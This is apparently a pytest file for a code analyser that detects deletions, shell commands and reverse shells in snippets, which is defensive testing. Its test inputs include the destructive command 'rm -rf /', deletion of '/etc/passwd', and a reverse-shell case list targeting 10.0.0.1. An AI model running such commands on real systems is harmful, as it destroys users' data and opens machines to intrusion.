    ("language", "code"), REVERSE_SHELLS, ids=[row[0].value for row in REVERSE_SHELLS]
)
def test_knows_a_shell_that_is_tied_to_a_connection(language: Language, code: str) -> None:
    tied = [effect for effect in effects_in(code, language) if effect.kind.value == "socket-shell"]

    assert len(tied) == 1
    assert tied[0].target in {"10.0.0.1", ""}


def test_does_not_take_every_socket_for_a_shell() -> None:
    code = "s = socket.socket(); s.connect(('h', 80)); os.remove('x'); os.system('ls -l')"

    assert [described(effect) for effect in effects_in(code, PYTHON)] == ["delete x", "shell ls -l"]
    assert effects_in("socket.getfqdn(); os.dup2(1, 2)", PYTHON) == []


HARMLESS = [
    (PYTHON, "import json, sys; print(json.load(sys.stdin)['a'])"),
    (PYTHON, "print('os.remove(\"/etc/passwd\")')"),
    (PYTHON, "# os.remove('/etc/passwd')\nprint(1)"),
    (PYTHON, "s = socket.socket(); s.connect(('localhost', 80)); subprocess"),
    (PYTHON, "import sys\nfor line in sys.stdin:\n    print(line.strip())"),
    (PYTHON, "def remove(x): pass"),
    (JS, "console.log('hello')"),
    (JS, "// fs.rmSync('/')"),
    (RUBY, 'puts "hello"'),
    (PERL, 'print "hello\\n";'),
    (PERL, "s/unlink/system/g"),
    (LUA, "print([[os.remove('x')]])"),
    (PHP, "echo 'unlink';"),
]


@pytest.mark.parametrize(
    ("language", "code"), HARMLESS, ids=[f"{row[0].value} {row[1]}" for row in HARMLESS]
)
def test_says_nothing_about_code_that_does_nothing(language: Language, code: str) -> None:
    assert effects_in(code, language) == []
    assert effects_of(calls_in(code, language), language) == []


LINES_OF_CODE = [
    "gateway.payment_method.delete('pm_123')",
    "braintree.Customer.delete('cust_123');",
    "await client.users.remove(id)",
    "Stripe::Customer.delete('x')",
    "$api->delete('x');",
    "db.dropDatabase()",
]
OTHER_LINES = [
    "",
    "ls -l",
    "foo.bar() { echo hi; }",
    "echo (x)",
    "./run.sh(x)",
    "python3.11 -c 'print(1)'",
    "rm(x)",
    "a.b(\n)",
    "x=a.b(c)",
    "file.txt",
]


@pytest.mark.parametrize("line", LINES_OF_CODE)
def test_knows_a_line_that_is_a_call(line: str) -> None:
    assert looks_like_code(line)


@pytest.mark.parametrize("line", OTHER_LINES)
def test_leaves_lines_of_shell_alone(line: str) -> None:
    assert not looks_like_code(line)


def test_cuts_what_grows_without_end() -> None:
    doubling = "x = 'aaaaaaaa'\n" + "x = x + x\n" * 40 + "f(x)\n"
    chain = "a" + ".bcdefghij(1)" * 100
    lists = "x = ['a', 'b']\n" + "x = x + x\n" * 40 + "f(x)\n"

    assert len(calls_in(doubling, PYTHON)[-1].arguments[0].prefix) <= 4096
    assert max(len(call.callee) for call in calls_in(chain, PYTHON)) <= 200
    assert len(calls_in(lists, PYTHON)[-1].arguments[0].items) <= 256


def test_reads_a_very_long_snippet_only_once() -> None:
    padding = "x = 1\n" * 22_000

    (found,) = effects_in(f"[os.remove(f) for f in glob.glob('/e/*')]\n{padding}", PYTHON)

    assert described(found) == "delete ?"


@pytest.mark.parametrize("language", [RUBY, PERL, PYTHON])
def test_takes_a_line_of_shell_for_what_it_is(language: Language) -> None:
    (found,) = effects_in("rm -rf /", language)

    assert described(found) == "shell rm -rf /"
    assert found.excerpt == "rm -rf /"


pieces = st.sampled_from(
    '( ) [ ] { } , ; : = + . -> => :: \' " ` \\ \n # // /* */ f"{x}" `${x}` %w[ qw( q{ s/ $_ @x'
    " os.remove eval exec import from as for in of if else def function class const my do end then"
    " | => 'a' x.y() x lambda =begin =pod <* --[[ [[ \x00 \ud800 \u2028".split(" ")
)
scraps = st.lists(pieces, max_size=40).map(" ".join) | st.text(max_size=60)


@given(scraps, st.sampled_from(Language))
def test_reads_any_text_and_always_alike(text: str, language: Language) -> None:
    calls = calls_in(text, language)

    assert calls == calls_in(text, language)
    assert effects_of(calls, language) == effects_of(calls, language)
    assert looks_like_code(text) in {True, False}


@given(scraps, st.sampled_from(Language))
def test_skips_only_what_has_no_effect(text: str, language: Language) -> None:
    found = effects_of(calls_in(text, language), language)

    assert effects_in(text, language) == found


@given(st.text(alphabet="abc()'.\n =", max_size=40))
def test_never_reads_a_string_as_code(text: str) -> None:
    quoted = repr(text)

    assert [call.callee for call in calls_in(f"f({quoted})", PYTHON)] == ["f"]


_CHARACTERS = rounds(short=8_192, soak=16_384)
_UNITS = ("(", "[", "'", "`", "f(", "a().", "import ", "s/", "\u2028", "x=x+x;", "<*", "eval('")
_MUCH = [
    (unit, language)
    for start, language in enumerate(Language)
    for number, unit in enumerate(_UNITS)
    # In the short round a third of them, another one in the next language.
    if SOAK or (start + number) % 3 == 0
]


@pytest.mark.large
@pytest.mark.parametrize(("unit", "language"), _MUCH)
def test_reads_much_code_in_little_time(unit: str, language: Language) -> None:
    text = unit * (_CHARACTERS // len(unit))
    start = time.process_time()
    effects_of(calls_in(text, language), language)

    assert time.process_time() - start < 3 * _CHARACTERS / 16_384


def test_reads_on_behind_an_import_that_is_cut_off() -> None:
    calls = calls_in("from os\nremove('x')", Language.PYTHON)

    assert [call.callee for call in calls] == ["remove"]


@pytest.mark.parametrize(
    ("code", "used"),
    [
        ("import interlock; interlock.evaluate_command('ls')", ["interlock.evaluate_command"]),
        (
            "from interlock import Interlock as I; I.open().approve(1)",
            ["interlock.Interlock.open", "interlock.Interlock.open.approve"],
        ),
        ("import runpy; runpy.run_module('interlock')", ["runpy.run_module"]),
        ("import interlock; getattr(interlock, name)", ["getattr"]),
        (
            "from interlock import Interlock as I; map(I.approve, ids)",
            ["interlock.Interlock.approve"],
        ),
        ("import interlock; print(interlock.__version__); print('interlock')", []),
        ("getattr(other, name); interlocking.approve(1)", []),
    ],
)
def test_uses_of_interlocks_own_library_are_known(code: str, used: list[str]):
    found = [each.target for each in effects_in(code, PYTHON) if each.kind is CallKind.LIBRARY]

    assert found == used


def test_a_module_whose_name_only_the_run_decides_is_none_that_is_known():
    assert effects_in("__import__(name).remove('/x')", PYTHON) == []
